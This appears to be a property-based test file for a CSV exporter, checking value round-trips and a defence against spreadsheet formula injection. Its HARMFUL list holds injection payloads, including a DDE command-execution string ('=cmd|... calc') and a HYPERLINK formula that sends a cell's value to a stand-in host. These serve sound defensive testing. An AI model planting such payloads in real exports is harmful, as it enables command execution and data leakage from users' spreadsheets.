import assert from "node:assert/strict";
import fc from "fast-check";
import type { Column, TypeName } from "@/compiler/schema/types.ts";
import { csvHead, csvLines } from "@/lib/server/exports/csv.ts";
import type { JsonValue } from "@/lib/server/stores/types.ts";
import { type Cell, readCsv } from "@/tests/support/csv.ts";

const column = (name: string, type: TypeName): Column => ({ name, type, nullable: true });
const fileOf = (columns: readonly Column[], ...rows: JsonValue[][]) =>
  csvHead(columns) + csvLines(rows, columns);
const written = (type: TypeName, value: JsonValue) => csvLines([[value]], [column("c", type)]).slice(0, -2);

/** One apostrophe too many in front of what a spreadsheet would compute. */
const unguarded = (cell: Cell) => cell?.startsWith("'") && isComputed(cell.slice(1)) ? cell.slice(1) : cell;
const isComputed = (text: string) => {
  const bare = text.replace(/^[\s\p{Cc}\p{Cf}"'`\u2018-\u201F]+/u, "");
  return "=+-@＝＋－＠".includes(bare[0] ?? "x") || /^'*[\t\r\n]/.test(text);
};

const TEXTS = fc.oneof(
  fc.string({ unit: "binary" }).filter((text) => text.isWellFormed()),
  fc.string({ unit: fc.constantFrom(...`=+-@"',;\r\n\t '` + "`＝＠“\u00A0\u200B\uFEFFa1é🙂\0") }),
);
const CELLS: Readonly<Record<TypeName, fc.Arbitrary<JsonValue>>> = {
  string: TEXTS,
  int64: fc.bigInt().map(String),
  decimal: fc.tuple(fc.bigInt(), fc.nat()).map(([whole, part]) => `${whole}.${part + 1}`),
  float64: fc.double({ noNaN: true, noDefaultInfinity: true }),
  date: fc.date({ min: new Date(0), noInvalidDate: true, max: new Date(4e12) })
    .map((date) => date.toISOString().slice(0, 10)),
  datetime: fc.date({ min: new Date(0), noInvalidDate: true, max: new Date(4e12) })
    .map((date) => date.toISOString()),
  boolean: fc.boolean(),
};
const TABLES = fc.array(fc.tuple(TEXTS, fc.constantFrom(...Object.keys(CELLS) as TypeName[])), {
  minLength: 1,
  maxLength: 6,
}).chain((described) => {
  const columns = described.map(([name, type]) => column(name, type));
  const row = fc.tuple(...columns.map(({ type }) => fc.option(CELLS[type])));
  return fc.record({ columns: fc.constant(columns), rows: fc.array(row, { maxLength: 8 }) });
});

function valueOf(cell: Cell, type: TypeName): JsonValue {
  if (cell === null) return null;
  if (type === "float64") return Number(cell);
  if (type === "boolean") return cell === "true";
  return type === "string" ? unguarded(cell) : cell;
}

Deno.test("a strict reader gets back every name and value, a null as no value and a text of no length as text", () => {
  fc.assert(
    fc.property(TABLES, ({ columns, rows }) => {
      const [head, ...lines] = readCsv(fileOf(columns, ...rows));
      assert.deepEqual(head!.map(unguarded), columns.map(({ name }) => name));
      assert.deepEqual(
        lines.map((line) => line.map((cell, index) => valueOf(cell, columns[index]!.type))),
        rows,
      );
    }),
    { numRuns: 2_000 },
  );
});

Deno.test("no text and no name begins as a formula, behind whatever stands before it", () => {
  fc.assert(
    fc.property(TEXTS, (text) => {
      for (const cell of readCsv(fileOf([column(text, "string")], [text])).flat()) {
        const bare = (cell ?? "").replace(/^[\s\p{Cc}\p{Cf}"]+/u, "");
        assert.ok(!/^[=+\-@＝＋－＠]/.test(bare), JSON.stringify(cell));
      }
    }),
    { numRuns: 5_000 },
  );
});

const HARMFUL = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1-2",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "\tplain",
  " =1",
  "\u00A0=1",
  "\u200B=1",
  "\uFEFF=1",
  "\0=1",
  '"=1"',
  "“=1”",
  "'=1",
  "''=1",
  "`=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  '=HYPERLINK("http://x.test?"&A1,"more")',
  "-5",
];

Deno.test("formulas are shown and not computed; one apostrophe away they are what they were", () => {
  for (const text of HARMFUL) {
    const [[name], [cell]] = readCsv(fileOf([column(text, "string")], [text])) as [Cell[], Cell[]];
    assert.equal(cell, `'${text}`, text);
    assert.equal(name, `'${text}`, text);
  }
  for (const text of ["AAPL", "a=1", "1-2", "'quoted'", "x@y.test", "'", '"', "…"]) {
    assert.equal(unguarded(readCsv(fileOf([column("c", "string")], [text]))[1]![0]!), text);
    assert.ok(!written("string", text).startsWith("''"), text);
  }
});

Deno.test("numbers are written whole, and a negative one stays a number", () => {
  const cases: readonly [TypeName, JsonValue, string][] = [
    ["int64", "-9223372036854775808", "-9223372036854775808"],
    ["int64", "18446744073709551615", "18446744073709551615"],
    ["decimal", "-123456789012345678901234567890.123456", "-123456789012345678901234567890.123456"],
    ["float64", 0.1 + 0.2, "0.30000000000000004"],
    ["float64", -2.5, "-2.5"],
    ["float64", 1e21, "1e+21"],
    ["float64", 5e-324, "5e-324"],
    ["float64", -0, "-0"],
    ["boolean", false, "false"],
    ["date", "2024-02-29", "2024-02-29"],
    ["datetime", "2024-01-31T14:30:00.000Z", "2024-01-31T14:30:00.000Z"],
    ["decimal", null, ""],
    ["string", null, ""],
    ["string", "", '""'],
    ["string", " a ", '" a "'],
    ["string", 'a"b', '"a""b"'],
  ];
  for (const [type, value, expected] of cases) assert.equal(written(type, value), expected);
});

Deno.test("names that are the same, odd or empty have their own cells", () => {
  const columns = ["a", "a", "", "x,y", 'q"', "two\r\nlines"].map((name) => column(name, "int64"));
  const [head, line] = readCsv(fileOf(columns, ["1", "2", "3", "4", "5", "6"]));
  assert.deepEqual(head, ["a", "a", "", "x,y", 'q"', "two\r\nlines"]);
  assert.deepEqual(line, ["1", "2", "3", "4", "5", "6"]);
});
